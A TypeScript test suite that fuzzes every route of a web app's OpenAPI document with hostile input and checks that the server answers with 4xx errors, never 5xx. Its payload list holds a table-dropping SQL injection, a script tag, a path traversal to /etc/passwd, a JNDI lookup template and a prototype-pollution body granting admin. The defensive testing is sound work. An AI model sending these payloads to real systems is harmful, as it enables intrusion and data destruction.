/**
 * Hostile input generated from the OpenAPI document: every route, every string parameter and every
 * top-level body field gets NUL and other control characters, very long text, wrong types, prototype-
 * poisoning keys and injection payloads. Whatever comes, the answer is never a 5xx; input that is wrong
 * by construction (NUL, wrong type, __proto__) is a 4xx with a message; nothing is ever left unanswered.
 * Requests carry a signed-in admin's session, so admin routes validate their input instead of stopping at 401.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../support/test-app.js';

const ORIGIN = 'http://localhost:3000';
const EMAIL = 'hostile@coinatlas.example';
const PASSWORD = 'correct horse battery staple';

type Schema = { type?: string | string[]; properties?: Record<string, Schema>; examples?: unknown[]; $ref?: string; required?: string[] };
type Operation = {
  operationId?: string;
  parameters?: Array<{ name: string; in: 'path' | 'query'; schema?: Schema }>;
  requestBody?: { content?: { 'application/json'?: { schema?: Schema } } };
};
type Case = { what: string; method: string; url: string; payload?: unknown; raw?: string; mustBe4xx: boolean };

const STRING_ATTACKS: Array<[string, string, boolean]> = [
  ['NUL', 'a\u0000b', true],
  ['escape', 'a\u001b[31mred', true],
  ['DEL', 'a\u007fb', true],
  ['very long', 'x'.repeat(5000), false],
  ['SQL injection', "' OR 1=1; DROP TABLE referral_codes; --", false],
  ['HTML', '<script>alert(1)</script>', false],
  ['path traversal', '../../../../etc/passwd', false],
  ['template', '${jndi:ldap://x.example/a}{{7*7}}', false],
  ['right-to-left override', 'abc\u202edcba', false],
  ['lone surrogate', 'a\ud800b', false],
  ['percent NUL', '%00', false],
];
const WRONG_TYPES: Array<[string, unknown]> = [
  ['number', 12345],
  ['boolean', true],
  ['array', ['x@example.com']],
  ['object', { nested: 'x' }],
  ['null', null],
];
// Operations whose effect would end this suite's own session.
const SKIP = new Set(['logout']);

describe('hostile input from the OpenAPI document', () => {
  let t: TestApp;
  let cookie = '';
  let csrf = '';
  let seq = 0;
  const cases: Case[] = [];

  beforeAll(async () => {
    t = await createTestApp({
      env: {
        ADMIN_EMAIL: EMAIL,
        ADMIN_PASSWORD: PASSWORD,
        RATE_LIMIT_MAX: '1000000',
        CONTACT_RATE_LIMIT_MAX: '1000000',
        NEWSLETTER_RATE_LIMIT_MAX: '1000000',
        ADMIN_LOGIN_MAX_PER_IP: '1000000',
        ADMIN_LOGIN_MAX_PER_ACCOUNT: '1000000',
      },
    });
    const login = await t.app.inject({ method: 'POST', url: '/api/admin/login', headers: { origin: ORIGIN }, payload: { email: EMAIL, password: PASSWORD } });
    expect(login.statusCode).toBe(200);
    cookie = ([] as string[]).concat(login.headers['set-cookie'] ?? []).map((c) => c.split(';')[0]).join('; ');
    csrf = login.json().csrfToken;

    const doc = t.app.swagger() as { paths: Record<string, Record<string, Operation>>; components?: { schemas?: Record<string, Schema> } };
    const resolve = (s: Schema | undefined): Schema | undefined =>
      s?.$ref ? doc.components?.schemas?.[s.$ref.split('/').pop()!] : s;
    for (const [path, ops] of Object.entries(doc.paths)) {
      for (const [method, op] of Object.entries(ops)) {
        if (SKIP.has(op.operationId ?? '')) continue;
        const params = op.parameters ?? [];
        const fill = (name: string, value: string) =>
          path.replace(/\{(\w+)\}/g, (_m, p: string) => (p === name ? enc(value) : sample(params.find((x) => x.name === p))));
        const base = fill('', '');
        for (const p of params) {
          for (const [what, value, bad] of STRING_ATTACKS) {
            const url = p.in === 'path' ? fill(p.name, value) : `${base}?${p.name}=${enc(value)}`;
            cases.push({ what: `${p.in} ${p.name}: ${what}`, method: method.toUpperCase(), url, mustBe4xx: bad });
          }
        }
        const body = resolve(op.requestBody?.content?.['application/json']?.schema);
        if (!body?.properties) continue;
        const example = (body.examples?.[0] as Record<string, unknown> | undefined) ?? exampleOf(body);
        for (const [field, fs] of Object.entries(body.properties)) {
          const isString = resolve(fs)?.type === 'string';
          if (isString) {
            for (const [what, value, bad] of STRING_ATTACKS) {
              cases.push({ what: `body ${field}: ${what}`, method: method.toUpperCase(), url: base, payload: { ...example, [field]: value }, mustBe4xx: bad });
            }
          }
          for (const [what, value] of WRONG_TYPES) {
            const matches = (resolve(fs)?.type === 'boolean' && typeof value === 'boolean') || (resolve(fs)?.type === 'integer' && typeof value === 'number');
            if (matches) continue;
            cases.push({ what: `body ${field}: ${what}`, method: method.toUpperCase(), url: base, payload: { ...example, [field]: value }, mustBe4xx: true });
          }
        }
        cases.push({
          what: 'body __proto__',
          method: method.toUpperCase(),
          url: base,
          raw: `{"__proto__":{"isAdmin":true},${JSON.stringify(example).slice(1)}`,
          mustBe4xx: true,
        });
        cases.push({ what: 'body that is not JSON', method: method.toUpperCase(), url: base, raw: '{"unterminated": ', mustBe4xx: true });
        cases.push({ what: 'body too large', method: method.toUpperCase(), url: base, raw: JSON.stringify({ ...example, pad: 'p'.repeat(20_000) }), mustBe4xx: true });
      }
    }
  });
  afterAll(async () => t?.close());

  it('generates cases for every route with input', () => {
    expect(cases.length).toBeGreaterThan(300);
  });

  it('answers every case, never with a 5xx; wrong-by-construction input gets a 4xx with a message', async () => {
    const failures: string[] = [];
    for (const c of cases) {
      const res = await t.app.inject({
        method: c.method as 'GET',
        url: c.url,
        remoteAddress: `10.9.${Math.floor(seq / 250)}.${seq++ % 250}`,
        headers: { cookie, 'x-csrf-token': csrf, origin: ORIGIN, ...(c.raw !== undefined ? { 'content-type': 'application/json' } : {}) },
        ...(c.raw !== undefined ? { payload: c.raw } : c.payload !== undefined ? { payload: c.payload as object } : {}),
      });
      const label = `${c.method} ${c.url.slice(0, 80)} [${c.what}] -> ${res.statusCode} ${res.body.slice(0, 120)}`;
      if (res.statusCode >= 500) failures.push(label);
      else if (c.mustBe4xx && !(res.statusCode >= 400 && res.statusCode < 500)) failures.push(label);
      else if (res.statusCode >= 400 && res.headers['content-type']?.toString().includes('json')) {
        const message = (res.json() as { message?: unknown }).message;
        if (typeof message !== 'string' || message.length === 0) failures.push(`${label} (no message)`);
      }
    }
    expect(failures).toEqual([]);
  });
});

/** Percent-encodes; text no URL can carry (a lone surrogate) becomes an invalid UTF-8 sequence instead. */
function enc(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    return '%ED%A0%80';
  }
}

function sample(p: { schema?: Schema } | undefined): string {
  const ex = p?.schema?.examples?.[0];
  return ex === undefined ? '1' : encodeURIComponent(String(ex));
}

function exampleOf(s: Schema): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  for (const [k, v] of Object.entries(s.properties ?? {})) {
    if (!s.required?.includes(k)) continue;
    out[k] = v.examples?.[0] ?? (v.type === 'string' ? 'x' : v.type === 'boolean' ? true : v.type === 'integer' ? 1 : null);
  }
  return out;
}
